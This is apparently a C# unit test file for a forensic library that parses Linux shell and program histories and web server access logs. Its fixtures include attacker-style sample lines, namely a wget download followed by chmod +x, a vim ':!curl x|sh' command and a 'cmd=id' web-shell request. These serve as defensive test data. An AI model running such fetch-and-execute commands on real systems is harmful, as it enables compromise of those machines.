using System.Text;
using Forensics.Parsers.Artifacts.Linux.Logs;
using Forensics.Parsers.Bytes;
using Forensics.Parsers.Tests.Images;
using Xunit;

namespace Forensics.Parsers.Tests.Artifacts.Linux.Logs;

/// <summary>Histories of shells and programs.</summary>
public sealed class HistoryTests
{
    [Fact]
    public void Bash_with_times_has_commands_over_several_lines()
    {
        List<LogEvent> found = Shell("#1380630977\n/usr/lib/plaso\n#1380630978\nfor i in 1 2; do\n  echo $i\ndone\n#1380630979\nid\n", ".bash_history");

        Assert.Equal(["/usr/lib/plaso", "for i in 1 2; do\n  echo $i\ndone", "id"], found.Select(e => e.Command));
        Assert.Equal("2013-10-01T12:36:17", LogRun.TimeOf(found[0]));
        Assert.Equal([2, 4, 8], found.Select(e => e.Location.Line!.Value));
    }

    [Fact]
    public void Bash_without_times_has_a_command_a_line_and_comments_are_commands()
    {
        Assert.Equal(["wget http://198.51.100.7/x", "chmod +x x", "# 5"], Shell("wget http://198.51.100.7/x\n\nchmod +x x\n# 5\n", ".bash_history").Select(e => e.Command));
    }

    [Fact]
    public void Bash_itself_writes_what_is_read()
    {
        using var folder = new TempFolder();
        string script = folder.Write("s", "HISTFILE=h\nHISTTIMEFORMAT='%F '\nset -o history\nhistory -s 'echo one'\nhistory -s $'cat <<X\\nbody\\nX'\nhistory -w\n"u8.ToArray());
        TestTools.Run("bash", "--norc", "-c", "cd " + folder.Root + " && bash --norc " + script);

        List<LogEvent> found = Shell(File.ReadAllText(folder.File("h")), ".bash_history");

        Assert.Contains(found, e => e.Command == "echo one" && e.First is not null);
        Assert.Contains(found, e => e.Command == "cat <<X\nbody\nX");
    }

    [Fact]
    public void Zsh_has_times_durations_continued_lines_and_its_own_escapes()
    {
        byte[] bytes = [.. ": 1710000000:0;ls -l\n: 1710000001:5;echo a\\\nb\n: 1710000002:0;echo "u8, 0xC3, 0x83, 0xA4, .. "\n"u8];
        List<LogEvent> found = LogRun.Read(new ShellHistoryParser(), LogRun.Input(new MemorySource(bytes), "/root/.zsh_history")).Events;

        Assert.Equal(["ls -l", "echo a\nb", "echo \u00C4"], found.Select(e => e.Command));
        Assert.Equal("2024-03-09T16:00:00", LogRun.TimeOf(found[0]));
    }

    [Fact]
    public void Fish_is_read_without_a_parser_of_YAML()
    {
        List<LogEvent> found = Shell("- cmd: echo \"a\\nb\"\n  when: 1710000000\n  paths:\n    - /etc/passwd\n- cmd: id\n  when: 1710000001\n", "fish_history");

        Assert.Equal(["echo \"a\nb\"", "id"], found.Select(e => e.Command));
        Assert.Equal("2024-03-09T16:00:01", LogRun.TimeOf(found[1]));
    }

    [Fact]
    public void Times_no_calendar_has_are_no_times()
    {
        List<LogEvent> found = Shell("#9223372036854775807\nid\n#99999999999999999999\nls\n", ".bash_history");

        Assert.All(found, e => Assert.Null(e.First));
        Assert.Equal("id\n#99999999999999999999\nls", Assert.Single(found).Command);
    }

    [Fact]
    public void Histories_of_programs_say_which_program()
    {
        Assert.Equal(("mysql", "GRANT ALL ON *.* TO x"), Program("_HiStOrY_V2_\nGRANT\\040ALL\\040ON\\040*.*\\040TO\\040x\n", ".mysql_history"));
        Assert.Equal(("python", "import os"), Program("import os\n", ".python_history"));
        Assert.Equal(("vim", "!curl x|sh"), Program("# This viminfo\n:!curl x|sh\n|2,0,1710000000,,\"!curl x|sh\"\n", ".viminfo"));
        Assert.Equal(("less shell", "id"), Program(".less-history-file:\n.shell\n\"id\n", ".lesshst"));
    }

    [Fact]
    public void Wget_and_vim_remember_hosts_and_files()
    {
        LogEvent host = Assert.Single(Programs("# HSTS 1.0 Known Hosts database for GNU Wget.\n# <hostname>\t<port>\nraw.example.com\t0\t0\t1710000000\t31536000\n", ".wget-hsts"));
        LogEvent file = Assert.Single(Programs("# File marks:\n> /etc/cron.d/x\n\t*\t1710000000\t0\n", ".viminfo"));

        Assert.Equal((LogEventKind.HistoryReference, "raw.example.com", "2024-03-09T16:00:00"), (host.Event, host.Target, LogRun.TimeOf(host)));
        Assert.Equal((LogEventKind.HistoryReference, "/etc/cron.d/x"), (file.Event, file.Target));
    }

    [Fact]
    public void Requests_of_web_servers_are_taken_apart()
    {
        string text = """
            203.0.113.9 - - [10/Oct/2023:13:55:36 -0700] "POST /x.php?cmd=id HTTP/1.1" 200 2326 "-" "libredtail-http"
            www.example.com:443 203.0.113.9 - bob [10/Oct/2023:13:55:37 +0000] "GET /\"quoted\" HTTP/2.0" 404 - "https://a/" "Mozilla \"x\""
            203.0.113.9 - - [10/Oct/2023:13:55:38 +0000] "\x16\x03\x01" 400 166 "-" "-"
            {"remote":"203.0.113.9"}

            """;
        var sink = new LogEventList();
        using var reader = new WebAccessReader(LogRun.Input(new MemorySource(Encoding.UTF8.GetBytes(text)), "/var/log/nginx/access.log"), sink);
        var found = new List<string>();
        while (reader.Read(out WebAccessLine line))
        {
            found.Add(string.Join(' ', S(line.Address), S(line.User), line.Time.Instant.ToString()[..19], S(line.Method), S(line.Target), line.Status, line.Bytes, S(line.Referer), S(line.UserAgent)));
        }

        Assert.Equal(
            [
                "203.0.113.9 - 2023-10-10T20:55:36 POST /x.php?cmd=id 200 2326 - libredtail-http",
                "203.0.113.9 bob 2023-10-10T13:55:37 GET /\\\"quoted\\\" 404 -1 https://a/ Mozilla \\\"x\\\"",
                "203.0.113.9 - 2023-10-10T13:55:38 - \\x16\\x03\\x01 400 166 - -",
            ], found);
        Assert.Equal(1, reader.OtherLines);

        static string S(ReadOnlySpan<byte> text) => text.IsEmpty ? "-" : Encoding.UTF8.GetString(text);
    }

    [Fact]
    public void The_fixture_of_plaso()
    {
        List<LogEvent> found = Shell(File.ReadAllText(Path.Combine(SharedImages.Require(), "plaso", "bash_history")), ".bash_history");

        Assert.Equal(4, found.Count);
        Assert.Equal("binary argument1 \"--params=\\\nparam1=foo,\nparam2=bar\n\" argument2", found[3].Command);
    }

    private static List<LogEvent> Shell(string text, string name) => [.. LogRun.Read(new ShellHistoryParser(), text, "/root/" + name).Events.Where(e => e.Event == LogEventKind.HistoryCommand)];

    private static List<LogEvent> Programs(string text, string name) => LogRun.Read(new ProgramHistoryParser(), text, "/root/" + name).Events;

    private static (string?, string?) Program(string text, string name)
    {
        LogEvent found = Assert.Single(Programs(text, name));
        return (found.Method, found.Command);
    }
}
